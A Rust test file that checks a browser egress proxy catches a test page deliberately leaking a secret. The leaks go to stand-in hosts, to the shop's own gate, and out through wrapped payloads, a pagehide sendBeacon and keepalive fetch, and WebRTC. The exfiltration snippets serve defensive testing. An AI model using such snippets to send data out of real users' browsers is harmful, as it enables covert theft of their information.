//! The guard guarded: a page that leaks on purpose is caught, whatever way it takes and whatever it wraps its loot in.
//! Were this to fail, no other test's silence would mean anything.

use recinto_tests::canary::{Canary, search};
use recinto_tests::egress::kind;
use recinto_tests::proxy::Tamper;
use recinto_tests::record::{Fate, Seen};
use recinto_tests::repository;
use recinto_tests::server::SHOP;
use recinto_tests::story::{Plan, World, closed, story};
use serde_json::json;
use std::time::{Duration, Instant};
use url::Url;

const LEAK: &str = "http://leak.localhost:8787/leak.html";
const SECRET: &str = "oriole~7Kq!mZ2#prezzo";

pub fn plan() -> Plan {
    Plan {
        leaks: true,
        ..Plan::default()
    }
}

/// Opens the page without any Content-Security-Policy: here the proxy alone has to see it all. Only the page that makes the
/// browser report has one, and it names whom to report to.
async fn open(world: &World) {
    world.proxy.tamper(|_, url| {
        let name = url
            .strip_prefix("http://leak.localhost:8787/")?
            .split('?')
            .next()?;
        let file = || {
            std::fs::read(repository("tests/sites").join(name)).expect("one of the tests' pages")
        };
        match name {
            "leak.html" => Some(Tamper::File("text/html", file())),
            "leak.js" | "worker.js" | "reported.js" => {
                Some(Tamper::File("text/javascript", file()))
            }
            "reported.html" => {
                let url = Url::parse(url).expect("an address");
                let (_, to) = url.query_pairs().next().expect("whom to report to");
                Some(Tamper::Held(
                    format!("img-src 'none'; report-uri {to}"),
                    file(),
                ))
            }
            _ => Some(Tamper::Cut),
        }
    });
    world.browser.goto(LEAK).await;
}

async fn names(world: &World, of: &str) -> Vec<String> {
    let names = world
        .browser
        .js("return Object.keys(window[arguments[0]])", vec![json!(of)])
        .await;
    names
        .as_array()
        .expect("a list")
        .iter()
        .map(|n| n.as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Waits for a request that was not there before and that `wanted` accepts.
async fn caught(world: &World, from: usize, what: &str, wanted: impl Fn(&Seen) -> bool) {
    let start = Instant::now();
    loop {
        let seen = world.proxy.record.since(from);
        if seen.iter().any(|s| s.fate != Fate::Open && wanted(s)) {
            return;
        }
        let lines: Vec<_> = seen.iter().map(Seen::line).collect();
        assert!(
            start.elapsed() < Duration::from_secs(8),
            "{what} was not caught; seen since: {lines:#?}"
        );
        tokio::time::sleep(Duration::from_millis(30)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_to_a_stranger_is_refused_and_recorded() {
    strangers_are_refused("leak_to_a_stranger", plan()).await;
}

/// The same in any browser.
pub async fn strangers_are_refused(name: &str, plan: Plan) {
    story(name, plan, |world| async move {
        open(&world).await;
        let ways = names(&world, "ways").await;
        assert!(ways.len() >= 20, "{ways:?}");
        for (number, way) in ways.iter().enumerate() {
            for scheme in ["http", "https"] {
                let stranger = format!("{scheme}://s{number}.{scheme}.example/take");
                let from = world.proxy.record.len();
                world
                    .browser
                    .js(
                        "window.ways[arguments[0]](arguments[1], arguments[2])",
                        vec![json!(way), json!(stranger), json!(SECRET)],
                    )
                    .await;
                let host = format!("s{number}.{scheme}.example");
                caught(&world, from, &format!("{way} by {scheme}"), |seen| {
                    seen.url.contains(&host)
                        && seen.fate == Fate::Refused
                        && kind(seen, &world.files).is_err()
                })
                .await;
            }
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_to_a_door_of_our_own_is_found_by_its_canary() {
    canaries_are_found("leak_to_our_own", plan()).await;
}

/// The same in any browser.
pub async fn canaries_are_found(name: &str, plan: Plan) {
    story(name, plan, |world| async move {
        open(&world).await;
        let canary = [Canary::text("secret", SECRET)];
        for way in names(&world, "ways").await {
            let from = world.proxy.record.len();
            let to = format!("{SHOP}/recinto/gate.js");
            world
                .browser
                .js(
                    "window.ways[arguments[0]](arguments[1], arguments[2])",
                    vec![json!(way), json!(to), json!(SECRET)],
                )
                .await;
            // Of a WebSocket only the tunnel is ever seen: that it is refused has to do.
            caught(&world, from, &way, |seen| {
                let found = !search(&seen.bytes(), &canary).is_empty();
                (found && kind(seen, &world.files).is_err())
                    || (way == "WebSocket" && seen.fate == Fate::Refused)
            })
            .await;
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_wrapping_is_found() {
    wrappings_are_found("leak_wrapped", plan()).await;
}

/// The same in any browser.
pub async fn wrappings_are_found(name: &str, plan: Plan) {
    story(name, plan, |world| async move {
        open(&world).await;
        let canary = [Canary::text("secret", SECRET)];
        let wrappings = names(&world, "wrappings").await;
        assert!(wrappings.len() >= 15, "{wrappings:?}");
        for wrapping in wrappings {
            for inside in ["", "{\"v\":1,\"site\":\"cd-shop\",\"x\":\""] {
                let from = world.proxy.record.len();
                let body = "
                  const wrapped = await window.wrappings[args[0]](args[1]);
                  const body = args[2] && typeof wrapped === 'string' ? args[2] + wrapped + '\"}' : wrapped;
                  await fetch(args[3], { method: 'POST', mode: 'no-cors', body }).catch(() => {});";
                let to = format!("{SHOP}/recinto/gate.js");
                world.browser.js_async(body, vec![json!(wrapping), json!(SECRET), json!(inside), json!(to)]).await;
                caught(&world, from, &wrapping, |seen| !search(&seen.bytes(), &canary).is_empty()).await;
            }
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_last_word_at_leaving_is_seen() {
    last_words_are_seen("leak_at_leaving", plan()).await;
}

/// The same in any browser.
pub async fn last_words_are_seen(name: &str, plan: Plan) {
    story(name, plan, |world| async move {
        open(&world).await;
        let canary = [Canary::text("secret", SECRET)];
        let from = world.proxy.record.len();
        let body = "addEventListener('pagehide', () => { navigator.sendBeacon(arguments[0], arguments[1]); fetch(arguments[0], { method: 'POST', mode: 'no-cors', keepalive: true, body: arguments[1] }); })";
        let to = format!("{SHOP}/recinto/gate.js");
        world.browser.js(body, vec![json!(to), json!(SECRET)]).await;
        world.browser.leave().await;
        caught(&world, from, "a beacon at pagehide", |seen| !search(&seen.bytes(), &canary).is_empty()).await;
        let start = Instant::now();
        while world.proxy.record.since(from).iter().filter(|s| !search(&s.bytes(), &canary).is_empty()).count() < 2 {
            assert!(start.elapsed() < Duration::from_secs(5), "beacon and keepalive fetch: both\n{}", world.proxy.record.text());
            tokio::time::sleep(Duration::from_millis(30)).await;
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn webrtc_finds_no_way_out() {
    webrtc_stays_inside("leak_webrtc", plan()).await;
}

/// The same in any browser.
pub async fn webrtc_stays_inside(name: &str, plan: Plan) {
    story(name, plan, |world| async move {
        open(&world).await;
        let found = world
            .browser
            .js_async("return await window.candidates()", vec![])
            .await;
        let lines: Vec<_> = found
            .as_array()
            .expect("a list")
            .iter()
            .map(|c| c.as_str().unwrap_or_default())
            .collect();
        // Without a network of its own, UDP is not ours to judge: the run has said "unseen".
        if closed() {
            assert!(
                !lines
                    .iter()
                    .any(|c| c.contains("srflx") || c.contains("relay") || c.contains("prflx")),
                "{lines:?}"
            );
        }
    })
    .await;
}
